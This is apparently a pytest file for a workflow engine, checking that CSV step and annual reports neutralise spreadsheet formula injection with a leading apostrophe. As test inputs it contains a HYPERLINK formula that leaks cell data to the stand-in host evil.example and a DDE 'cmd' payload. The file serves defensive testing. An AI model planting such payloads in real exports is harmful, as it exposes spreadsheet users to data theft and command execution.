"""CSV reports neutralise formula injection: a cell that a spreadsheet would run as a formula
(text starting with =, +, -, @, a tab or a carriage return) is written as text, with a leading
apostrophe; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timezone

import pytest

from engine import commands as cmd
from engine import files_from_folder
from engine.audit import reports
from tests.engine.helpers import RECEIVE, open_tasks
from workflows.annual_report import annual_csv
from workflows.review import INDICATORS

from ..conftest import BPMN

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),  # a plain number, not a formula
        (-3, "-3"),
        ("戶籍謄本", "戶籍謄本"),
        ("a=b", "a=b"),
    ],
)
def test_each_dangerous_start_is_neutralised(value, written):
    text = reports.to_csv([{"cell": value}], ["cell"])
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row["cell"] == written


def test_a_hostile_step_name_reaches_the_report_as_text(call, engine, tokens):
    files = files_from_folder(BPMN / "household_transcript")
    [name] = [key for key, content in files.items() if b"Receive application" in content]
    files[name] = files[name].replace(
        b'name="\xe5\x8f\x97\xe7\x90\x86\xe7\x94\xb3\xe8\xab\x8b Receive application"',  # 受理申請 Receive application
        b'name="' + HOSTILE_NAME.replace('"', "&quot;").replace("&A1", "&amp;A1").encode() + b'"',
    )
    engine.handle(cmd.DeployDefinition(files, actor="designer"))
    started = engine.handle(cmd.StartCase("household_transcript", {}, actor="clerk"))
    [task] = open_tasks(engine, started.case_id)
    assert task.name == HOSTILE_NAME
    engine.handle(cmd.CompleteTask(task.id, "clerk", RECEIVE))
    answer = call(
        "GET", "/api/reports/steps", user="supervisor", query={"procedure": "household_transcript", "format": "csv"}
    )
    assert answer.status == 200 and answer.content_type == "text/csv", answer
    cells = [cell for row in csv.reader(io.StringIO(answer.body.decode(), newline="")) for cell in row]
    assert "'" + HOSTILE_NAME in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    assert not any(cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit() for cell in cells)


def test_the_annual_reports_rows_are_neutralised_too():
    """The annual report writes rows of its own (an improvement names a designer's procedure)."""
    moment = datetime(2026, 3, 2, 1, 0, tzinfo=timezone.utc)
    period = {"cases": 3, "compliance": 1.0, "minutes_median": 12}
    measured = {"cases": 3, "sla_compliance": 1.0, "sla_late": 0}
    review = {
        "year": 2026,
        "months": [],
        "indicators": [
            {
                "indicator": item.key,
                "name_zh": "",
                "name_en": "",
                "year_value": None,
                "target": None,
                "amber": None,
                "status": None,
                "months_met": 0,
                "months_measured": 0,
            }
            for item in INDICATORS
        ],
        "improvements": [
            {
                "procedure": "=cmd()",
                "version": 2,
                "deployed_at": moment,
                "before": period,
                "after": period,
                "measured": {"days": 30, "before": measured, "after": measured, "changes": {}},
            }
        ],
    }
    rows = list(csv.reader(io.StringIO(annual_csv(review), newline="")))
    assert ["improvement", "'=cmd()", "2"] == rows[-1][:3]
